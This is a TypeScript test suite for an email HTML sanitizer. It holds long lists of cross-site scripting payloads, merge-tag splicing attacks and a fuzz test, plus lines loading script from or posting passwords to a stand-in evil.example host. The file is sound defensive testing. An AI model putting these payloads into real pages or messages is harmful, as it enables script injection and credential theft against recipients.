import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type DefaultTreeAdapterTypes, parse, parseFragment } from 'parse5';
import { compileContent } from '../compile-content.ts';
import { prepare, render } from '../render.ts';
import { sampleData } from '../sample-data.ts';
import { readHtml } from './tokens.ts';

async function outcome(source: string, contact: Record<string, unknown> = {}) {
  const content = { kind: 'html', version: 1, source, text: null } as const;
  const result = await compileContent({ subject: 's', preheader: '', content });
  if (!result.ok) return { refused: result.errors.map((error) => error.message), html: '', warnings: [] };
  const { html } = render(prepare(result.compiled), sampleData(contact));
  return { refused: [], html, warnings: result.warnings.map((warning) => warning.message) };
}

const URL_ATTRIBUTES = new Set(['href', 'src', 'background', 'poster', 'action']);
const RUNNING_URL = /^(javascript|vbscript|data:text|data:image\/svg)/;
const FORBIDDEN =
  /^(script|iframe|object|embed|applet|form|input|button|textarea|select|svg|math|base|template|frame|frameset|xmp|plaintext)$/;

/** Builds the tree a mail program would build and complains about anything in it that could run. */
function assertHarmless(html: string, origin: string): void {
  const { childNodes } = html.startsWith('<!doctype') ? parse(html) : parseFragment(html);
  for (const node of childNodes) assertHarmlessNode(node, origin);
}

function assertHarmlessNode(node: DefaultTreeAdapterTypes.ChildNode, origin: string): void {
  if (node.nodeName === '#comment' && 'data' in node) {
    const inner = /^\[if [^\]]*\]>([\s\S]*)<!\[endif\]$/.exec(node.data)?.[1];
    if (inner) assertHarmless(inner, origin);
  }
  if (!('tagName' in node)) return;
  assert.doesNotMatch(node.tagName, FORBIDDEN, origin);
  for (const { name, value } of node.attrs) {
    assert.doesNotMatch(name, /^on|srcdoc|formaction/, origin);
    const bare = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
    if (URL_ATTRIBUTES.has(name)) assert.doesNotMatch(bare, RUNNING_URL, origin);
    if (name === 'http-equiv') assert.match(bare, /^(content-type|x-ua-compatible)$/);
  }
  for (const child of node.childNodes) assertHarmlessNode(child, origin);
}

const CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<form>script>alert(1)</<form>script>',
  '<p>x<script',
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x oNeRrOr\n=\nalert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="&#x6a;avascript:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf"><applet code=x></applet>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">ok</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="import" href="https://evil.example/">',
  '<style>@import "x"; p { behavior: url(x.htc) }</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<!--[if mso]><a href="javascript:alert(1)" onclick="x()">x</a><![endif]-->',
  '<!--[if mso]>--!><script>alert(1)</script><![endif]-->',
  '<!--[if mso]>-<form>-><script>alert(1)</script><![endif]-->',
  '<!--[if gte mso 9]><xml><script>alert(1)</script></xml><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '<template><script>alert(1)</script></template>',
  '<title><script>alert(1)</script></title>',
  '<plaintext><script>alert(1)</script>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<style></style x="><img src=x onerror=alert(1)>">',
  '<p title="`onmouseover=alert(1)">x</p>',
  '<p "onclick="alert(1)">x</p>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<body onload=alert(1)><body onload=alert(2)>',
  '<html onclick=x()><head></head><body><p>x</p></body></html>',
  '<a href="https://ok.example" target="_blank" ping="https://evil.example">x</a>',
  '<input autofocus onfocus=alert(1)><isindex action=javascript:alert(1)>',
  '<x onclick=alert(1)>click</x>',
  '<a href="blob:https://x">b</a><a href="file:///etc/passwd">f</a>',
];

test('nothing that runs survives, and cleaning twice changes nothing (CVE-2026-40186, CVE-2024-47875)', async () => {
  for (const source of CORPUS) {
    const first = await outcome(source);
    assertHarmless(first.html, source);
    const body = /<body[^>]*>([\s\S]*)<\/body>/.exec(first.html)?.[1] ?? '';
    const second = await outcome(body);
    assert.equal(/<body[^>]*>([\s\S]*)<\/body>/.exec(second.html)?.[1], body, source);
  }
});

test('what is taken out is said', async () => {
  assert.match((await outcome('<script>x</script>')).warnings.join(), /<script> was taken out/);
  assert.match((await outcome('<p onclick=x>')).warnings.join(), /onclick was taken out/);
  assert.match(
    (await outcome('<a href="javascript:x">')).warnings.join(),
    /javascript: address was taken out/,
  );
  const content = { kind: 'html', version: 1, source: '<p>\n <b ONclick=x>', text: null } as const;
  const result = await compileContent({ subject: 's', preheader: '', content });
  assert.ok(result.ok);
  assert.deepEqual(
    result.warnings.map(({ line, column }) => [line, column]),
    [[2, 5]],
  );
  assert.match((await outcome('<form><p>kept</p></form>')).html, /<p>kept<\/p>/);
});

const ESCAPES = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '" onmouseover="alert(1)',
  'x onclick=alert(1)',
  '--><script>alert(1)</script><!--',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  'red;background:url(javascript:alert(1))',
  'javascript:alert(1)',
  ' java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{ contact.email }}{% if %}',
  '&lt;script&gt;',
  '\u0000<script>',
];

const PLACES = [
  '<p>{{ contact.v }}</p>',
  '<p title="{{ contact.v }}">x</p>',
  "<p title='{{ contact.v }}'>x</p>",
  '<p title={{ contact.v }}>x</p>',
  '<a href="{{ contact.v }}">x</a>',
  '<a href={{ contact.v }}>x</a>',
  '<a href="https://a.example/{{ contact.v }}?q={{ contact.v }}#{{ contact.v }}">x</a>',
  '<img src="{{ contact.v }}" alt="{{ contact.v }}">',
  '<p style="color:{{ contact.v }}">x</p>',
  '<style>p { color: {{ contact.v }} }</style>',
  '<html><head><title>{{ contact.v }}</title></head><body>x</body></html>',
  '<!--[if mso]><p title="{{ contact.v }}">{{ contact.v }}</p><a href="{{ contact.v }}">x</a><![endif]-->',
  '<!-- {{ contact.v }} -->',
  '{% if contact.v %}<b>{{ contact.v | upcase }}</b>{% endif %}',
];

test('a value stays a value wherever it lands', async () => {
  for (const place of PLACES) {
    const shape = tagsOf((await outcome(place, { v: 'plain' })).html);
    for (const v of ESCAPES) {
      const { html } = await outcome(place, { v });
      assertHarmless(html, `${place} with ${v}`);
      assert.deepEqual(tagsOf(html), shape, `${place} with ${v} → ${html}`);
      assert.equal(html.match(/<!--/g)?.length, html.match(/-->/g)?.length);
    }
  }
});

/** Elements and attribute names in order; a value that escaped its place would change them. */
function tagsOf(html: string): string[] {
  const tags: string[] = [];
  readHtml(html, {
    startTag: (tag) => void tags.push(`${tag.tagName} ${tag.attrs.map((attr) => attr.name).join(' ')}`),
    endTag: (tag) => void tags.push(`/${tag.tagName}`),
    text() {},
    comment: () => void tags.push('comment'),
    doctype() {},
  });
  return tags;
}

test('values in addresses are percent-encoded', async () => {
  const source =
    '<a href="https://a.example/{{ contact.v }}/?q={{ contact.v }}&r={{ contact.v | url_encode }}">x</a>';
  const { html } = await outcome(source, { v: "a b&c/d'é" });
  assert.ok(
    html.includes('https://a.example/a%20b%26c%2Fd%27%C3%A9/?q=a%20b%26c%2Fd%27%C3%A9&amp;r=a+b%26c%2Fd'),
    html,
  );
});

test('merge tags cannot build an element', async () => {
  const attacks = [
    '<{% if contact.email %}script>alert(1)</script>',
    '<scr{% if contact.email %}ipt>alert(1)</scr{% endif %}ipt>',
    '<{{ "script" }}>alert(1)</{{ "script" }}>',
    '<p {{ contact.v }}>x</p>',
    '<p on{% if contact.email %}click="alert(1)"{% endif %}>x</p>',
    '<p {% if contact.email %}onclick="x"{% endif %}>x</p>',
    '</{% if 1 %}p{% endif %}>',
  ];
  for (const attack of attacks) {
    const { refused } = await outcome(attack);
    assert.ok(refused.length > 0, attack);
  }
  const joined = [
    '<style>a{}</sty{% if contact.email %}{% endif %}le><script>alert(1)</script>',
    '<style>a{}<{% if contact.email %}{% endif %}/style><script>alert(1)</script></style>',
    '<!--[if mso]>-{% if contact.email %}{% endif %}-><script>alert(1)</script><![endif]-->',
    '<!--[if mso]>{{ "--" }}><script>alert(1)</script><![endif]-->',
    '<a href="java{% if contact.email %}{% endif %}script:alert(1)">x</a>',
    '<a href="{{ "java" }}script:alert(1)">x</a>',
    '<a href="{% if contact.email %}javascript{% endif %}:alert(1)">x</a>',
    '&l{% if contact.email %}{% endif %}t;script>alert(1)&lt;/script>',
    '<<b></b>script>alert(1)<b></b>',
    '<p style="background:url(java{% if contact.email %}{% endif %}script:alert(1))">x</p>',
    '<p style="width:expre{% if contact.email %}{% endif %}ssion(alert(1))">x</p>',
  ];
  for (const attack of joined) assertHarmless((await outcome(attack)).html, attack);
});

test('thousands of random mixtures stay harmless', async () => {
  const pieces = [
    '<',
    '>',
    '"',
    "'",
    '=',
    ' ',
    '/',
    '<!--',
    '-->',
    '<!--[if mso]>',
    '<![endif]-->',
    'script',
    'style',
    'svg',
    'a ',
    'href=',
    'onclick=',
    'javascript:',
    '{{ contact.v }}',
    '{% if contact.v %}',
    '{% endif %}',
    '<p ',
    '</',
    'title',
    '<b>',
    '<script>',
    '</script>',
    '<style>',
    '</style>',
    '<form>',
    '&lt;',
    '&',
    ';',
    '\n',
    'x',
    '<svg>',
    '</svg>',
    '<textarea>',
    '<title>',
    '</title>',
    '--',
    '`',
    '<table><td>',
    '<body>',
    '</body>',
    '<img src=',
  ];
  let seed = 20_261_122;
  const next = (below: number) => {
    seed = (Math.imul(seed, 1_103_515_245) + 12_345) >>> 0;
    return Math.floor((seed / 2 ** 32) * below);
  };
  for (let round = 0; round < 3_000; round++) {
    let source = '';
    for (let count = 2 + next(14); count > 0; count--) source += pieces[next(pieces.length)];
    const { html } = await outcome(source, { v: ESCAPES[next(ESCAPES.length)] });
    assertHarmless(html, source);
  }
});
